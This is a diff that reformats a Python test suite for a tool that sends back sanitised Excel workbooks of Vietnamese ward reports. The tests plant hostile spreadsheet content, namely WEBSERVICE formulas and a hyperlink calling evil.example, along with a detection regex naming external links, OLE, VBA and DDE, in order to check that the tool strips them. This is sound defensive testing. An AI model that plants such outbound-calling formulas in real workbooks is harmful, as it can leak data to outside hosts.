@@ -1,4 +1,7 @@
-"""The copies that go back: nothing of the sender's lives in them, and nothing that somebody wrote is missing from them."""
+"""The copies that go back.
+
+Nothing of the sender's lives in them, and nothing that somebody wrote is missing from them.
+"""
 
 import io
 import re
@@ -25,7 +28,8 @@ UNIT, PLACE = "phuong-loc-tho", ("Kết quả", "G4")
 STATUS: CellPath = ("results", "II.5.1", "status")
 #: What begins to live in a workbook, as it stands in its XML.
 ALIVE = re.compile(
-    r"<f[ >/]|externalLink|oleObject|vbaProject|conditionalFormatting|connection|WEBSERVICE|DDE|TargetMode=\"External\"|<control|queryTable|evil"
+    r"<f[ "
+    r">/]|externalLink|oleObject|vbaProject|conditionalFormatting|connection|WEBSERVICE|DDE|TargetMode=\"External\"|<control|queryTable|evil"
 )
 
 
@@ -43,7 +47,11 @@ def give_back(root: Path, run: Run) -> Callable[[Path], Path]:
     def collect(path: Path) -> Path:
         code, out, err = run("collect", str(path), "--received", "2020-12-05", cwd=root, columns=400)
         assert (code, err) == (1, ""), out
-        made = [one for one in (root / "out" / "tra-lai").iterdir() if one.suffix == ".xlsx" and "can-sua" in one.name]
+        made = [
+            one
+            for one in (root / "out" / "tra-lai").iterdir()
+            if one.suffix == ".xlsx" and "can-sua" in one.name
+        ]
         assert len(made) == 1, out
         return made[0]
 
@@ -53,7 +61,9 @@ def give_back(root: Path, run: Run) -> Callable[[Path], Path]:
 def markup_of(path: Path) -> str:
     """All the XML of a workbook but the words of its cells and notes."""
     with zipfile.ZipFile(path) as package:
-        return re.sub(r"<t[^>]*>[^<]*</t>", "", "".join(package.read(name).decode() for name in package.namelist()))
+        return re.sub(
+            r"<t[^>]*>[^<]*</t>", "", "".join(package.read(name).decode() for name in package.namelist())
+        )
 
 
 def enliven(book: Any) -> None:  # noqa: ANN401 - the library's types are loose
@@ -65,7 +75,9 @@ def enliven(book: Any) -> None:  # noqa: ANN401 - the library's types are loose
     page["S5"].hyperlink = "https://evil.example/x"
     page["S6"].comment = Comment("Hỏi: ghi gì ở đây?", "evil <author>")
     page.conditional_formatting.add("S7", FormulaRule(formula=['WEBSERVICE("http://evil.example")=1']))  # type: ignore[no-untyped-call] # the library has no types
-    page.add_data_validation(DataValidation("custom", formula1='WEBSERVICE("http://evil.example")=1', sqref="S8"))
+    page.add_data_validation(
+        DataValidation("custom", formula1='WEBSERVICE("http://evil.example")=1', sqref="S8")
+    )
     book.defined_names["evil"] = DefinedName("evil", attr_text="'Kết quả'!$A$1")
     book.create_sheet("Ghi chú của phường")["A1"] = "=1+1"
 
@@ -94,10 +106,14 @@ def test_receipt_carries_nothing_alive(root: Path, wrong: Path, run: Run) -> Non
     assert ALIVE.search(markup_of(made[0])) is None
 
 
-def test_officers_note_stays_below_ours(root: Path, wrong: Path, give_back: Callable[[Path], Path], run: Run) -> None:
+def test_officers_note_stays_below_ours(
+    root: Path, wrong: Path, give_back: Callable[[Path], Path], run: Run
+) -> None:
     """A note in the cell that is wrong is kept, to and fro, and once."""
     sheet, cell = PLACE
-    change(wrong, lambda book: book[sheet][cell].__setattr__("comment", Comment("Phường hỏi:\nchọn gì?", "An")))
+    change(
+        wrong, lambda book: book[sheet][cell].__setattr__("comment", Comment("Phường hỏi:\nchọn gì?", "An"))
+    )
     for _ in range(2):
         made = give_back(wrong)
         text = load_workbook(made)[sheet][cell].comment.text
@@ -129,7 +145,12 @@ def test_link_to_a_sheet_with_a_strange_name(wrong: Path, give_back: Callable[[P
     """Whatever a sheet is called, what leads to it leads into this workbook."""
     change(wrong, lambda book: book.create_sheet("x'!A1 & y").__setitem__("A1", "chữ"))
     book = load_workbook(give_back(wrong))
-    links: list[Any] = [cell.hyperlink for row in book["Cần sửa"].iter_rows() for cell in row if getattr(cell, "hyperlink", None)]
+    links: list[Any] = [
+        cell.hyperlink
+        for row in book["Cần sửa"].iter_rows()
+        for cell in row
+        if getattr(cell, "hyperlink", None)
+    ]
     assert links
     assert all(link.target is None and link.location for link in links)
 
@@ -146,9 +167,15 @@ def test_everything_joined_costs_nothing(wrong: Path, give_back: Callable[[Path]
     with zipfile.ZipFile(io.BytesIO(wrong.read_bytes())) as old:
         members = {name: old.read(name) for name in old.namelist()}
     name = next(
-        name for name, text in members.items() if "worksheets/sheet" in name and b"KINH PH" in text and b"</sheetProtection>" not in text
+        name
+        for name, text in members.items()
+        if "worksheets/sheet" in name and b"KINH PH" in text and b"</sheetProtection>" not in text
     )
-    members[name] = re.sub(rb"(<sheetProtection[^>]*/>)", rb'\1<mergeCells><mergeCell ref="A900:XFD1048576"/></mergeCells>', members[name])
+    members[name] = re.sub(
+        rb"(<sheetProtection[^>]*/>)",
+        rb'\1<mergeCells><mergeCell ref="A900:XFD1048576"/></mergeCells>',
+        members[name],
+    )
     with zipfile.ZipFile(wrong, "w") as new:
         for member, content in members.items():
             new.writestr(member, content)
